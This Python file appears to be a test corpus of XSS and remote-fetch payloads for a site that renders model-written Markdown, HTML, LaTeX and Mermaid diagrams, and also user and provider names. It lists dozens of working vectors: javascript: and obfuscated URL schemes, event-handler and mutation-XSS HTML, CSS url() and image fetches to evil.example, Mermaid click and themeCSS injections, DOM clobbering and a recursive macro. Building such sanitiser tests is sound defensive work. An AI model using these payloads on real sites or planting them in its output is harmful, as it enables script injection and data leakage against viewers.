"""The corpus: what a model writes, or what people, models and providers are called, to have it run or fetched."""

RUN = "window.ran=(window.ran||0)+1"
EVIL = "https://evil.example"

LINKS = [
    f"[a]({scheme}{RUN})"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java&#10;script:",
        "&#106;avascript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,<script>parent.",
        "\x01javascript:",
        "java\tscript:",
        "javascript:%0a",
        "view-source:javascript:",
        "blob:",
    )
]
HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src={EVIL}/x.js></ScRiPt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f'<img srcset="{EVIL}/p.png 1x">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><use href="{EVIL}/x.svg#a"></use></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{RUN}">x</math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<style>@import url({EVIL}/x.css);body{{background:url({EVIL}/b.png)}}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={EVIL}/v.mp4 onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<b onmouseover={RUN} style=position:fixed;inset:0>x</b>",
    f"<p style=animation-name:breathe onanimationstart={RUN}>x</p>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href="{EVIL}" ping="{EVIL}/ping">x</a>',
    f"<table background={EVIL}/t.png><td>x</td></table>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<template><script>{RUN}</script></template>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<b <script>{RUN}</script>",
    f"<form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "<a id=app name=cookie href=x>clobber</a><form name=body><input name=firstChild></form>",
    f'<div title="\n\n$x$\n\n"><img src=x onerror={RUN}>',
]
MARKDOWN = [
    f'![a"onerror="{RUN}]({EVIL}/p.png)',
    f'![a](x"onerror="{RUN})',
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f'![a](/api/attachments/1"onerror="{RUN})',
    f'[a](https://a.example "x\\"onclick=\\"{RUN}")',
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n\n[a]",
    f'```"><img/src=x/onerror={RUN}>\ncode\n```',
    f"- ```<img/src=x/onerror={RUN}>\n  code\n  ```",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <svg onload={RUN}> |",
    f'so[^"><img/src=x/onerror={RUN}>]\n\n[^"><img/src=x/onerror={RUN}>]: y',
    f"# <img src=x onerror={RUN}>",
    f"```html\n<img src=x onerror={RUN}>\n</span><script>{RUN}</script>\n```",
]
MATH = [
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\url{{javascript:{RUN}}}$$",
    f"\\(\\includegraphics{{{EVIL}/p.png}}\\)",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f'$\\color{{"onclick={RUN}}}x$',
    "$\\def\\a{\\a\\a}\\a$",
    f'$\\undefined"><img src=x onerror={RUN}>$',
]
ANSWER = LINKS + HTML + MARKDOWN + MATH

IMG, FETCH = f"<img src=x onerror={RUN}>", f"url({EVIL}/p.png)"
LOOSE = '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n'
FRONT = "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n"
# Of labels, of what a diagram sets for itself, of its styles, of its links.
LABELS = [
    f'flowchart LR\n  A["{IMG}"] --> |"{IMG}"| B',
    f'flowchart LR\n  A["<<img src=x onerror={RUN}>"] --> B["`**b** {IMG}`"]',
    f'flowchart LR\n  A["#lt;img src=x onerror={RUN}#gt; &lt;img src=x onerror={RUN}&gt;"] --> B',
    f"flowchart LR\n  A[\"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>\"] --> B",
    f'flowchart LR\n  subgraph "{IMG}"\n  A["<a href=\'javascript:parent.{RUN}\'>x</a>"]\n  end',
    f"---\ntitle: {IMG}\n---\nflowchart LR\n  accTitle: {IMG}\n  A --> B",
    f"sequenceDiagram\n  participant A as {IMG}\n  A->>B: {IMG}\n  Note over A: <svg onload={RUN}>",
    f'classDiagram\n  class A["{IMG}"]\n  A : +x() {IMG}\n  A <|-- B : {IMG}\n  note for A "{IMG}"',
    f'stateDiagram-v2\n  state "{IMG}" as s\n  [*] --> s : {IMG}\n  note right of s : {IMG}',
    f'erDiagram\n  A ||--o{{ B : "{IMG}"\n  A {{ string x "{IMG}" }}',
    f"gantt\n  title {IMG}\n  section {IMG}\n  {IMG} :a, 2020-01-01, 3d",
    f'pie title {IMG}\n  "{IMG}" : 3\n  "b" : 2',
    f"journey\n  title {IMG}\n  section {IMG}\n    {IMG}: 5: Me",
    f'gitGraph\n  commit id: "{IMG}" tag: "{IMG}"',
    f"timeline\n  title {IMG}\n  2002 : {IMG}",
    f'block-beta\n  a["{IMG}"]',
    f'kanban\n  a["{IMG}"]\n    b["{IMG}"]',
]
SETTINGS = [
    f'{LOOSE}flowchart LR\n  A["{IMG}"] --> B',
    f"{LOOSE}flowchart LR\n  A[\"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>\"] --> B",
    f'{LOOSE}flowchart LR\n  A["<img src={EVIL}/p.png>"] --> B',
    f"{LOOSE}flowchart LR\n  A[\"<b style='background:{FETCH}'>x</b>\"] --> B",
    f"{LOOSE}sequenceDiagram\n  A->>B: <iframe src={EVIL}></iframe>",
    f'{FRONT}flowchart LR\n  A["{IMG}"] --> B',
    f'%%{{init: {{"themeCSS": ".node rect {{ background: {FETCH} }}"}}}}%%\nflowchart LR\n  A --> B',
    f'---\nconfig:\n  themeCSS: ".node {{ background: {FETCH} }}"\n---\nflowchart LR\n  A --> B',
    f'%%{{init: {{"fontFamily": "x; background: {FETCH}"}}}}%%\nflowchart LR\n  A --> B',
    '%%{init: {"themeVariables": {"actorBkg": "url(p.png)"}}}%%\nsequenceDiagram\n  A->>B: x',
    '%%{init: {"themeVariables": {"actorBkg": "\\u0075rl(p.png)"}}}%%\nsequenceDiagram\n  A->>B: x',
]
STYLES = [
    f"flowchart LR\n  A --> B\n  style A fill:{FETCH}",
    f"flowchart LR\n  A:::x --> B\n  classDef x background:{FETCH}\n  linkStyle 0 stroke:{FETCH}",
    f"classDiagram\n  class A\n  style A background:{FETCH}",
    f"classDiagram\n  class A:::x\n  classDef x background:{FETCH}",
    f"classDiagram\n  class A\n  style A background:u\\72l({EVIL}/p.png)",
    "classDiagram\n  class A\n  style A background:url#40;#35;p)",
    f"stateDiagram-v2\n  classDef x background:{FETCH},mask-image:url(p.png),filter:url(p.svg#a)\n  [*] --> a:::x",
    f"block-beta\n  a\n  style a background:{FETCH}",
    f'block-beta\n  a\n  classDef x background:image-set("{EVIL}/p.png" 1x)\n  class a x',
    f"sequenceDiagram\n  rect {FETCH}\n  A->>A: x\n  end",
    f"sequenceDiagram\n  rect #117;rl({EVIL}/p.png)\n  A->>A: x\n  end",
    f"sequenceDiagram\n  rect #92;75rl({EVIL}/p.png)\n  A->>A: x\n  end",
    f'flowchart LR\n  A@{{ img: "{EVIL}/p.png", label: "x", w: 60, h: 60 }} --> B',
    f'C4Context\n  Person(a, "{IMG}", "x", $sprite="{EVIL}/p.png")\n  UpdateElementStyle(a, $bgColor="{FETCH}")',
]
CLICKS = [
    f'flowchart LR\n  A[x] --> B\n  click A "javascript:{RUN}"',
    f'flowchart LR\n  A[x] --> B\n  click A href "javascript:parent.{RUN}" _self',
    f'flowchart LR\n  A[x] --> B\n  click A href "{EVIL}" _self',
    f'{LOOSE}flowchart LR\n  A[x] --> B\n  click A call eval("{RUN}")',
    f'classDiagram\n  class A\n  click A href "javascript:{RUN}"',
    f'sequenceDiagram\n  participant A\n  links A: {{"x": "javascript:{RUN}", "y": "{EVIL}"}}\n  A->>A: x',
    f'gantt\n  x :a, 2020-01-01, 3d\n  click a href "javascript:{RUN}"',
]
DIAGRAMS = LABELS + SETTINGS + STYLES + CLICKS

# What people, models and providers are called; the shortest of the site's limits is 60 characters.
NAMES = [
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</mark><b onclick={RUN}>",
    f"javascript:{RUN}",
    f"${{{RUN}}} {{{{1}}}} img",
    f"<img src={EVIL}/p.png>",
]
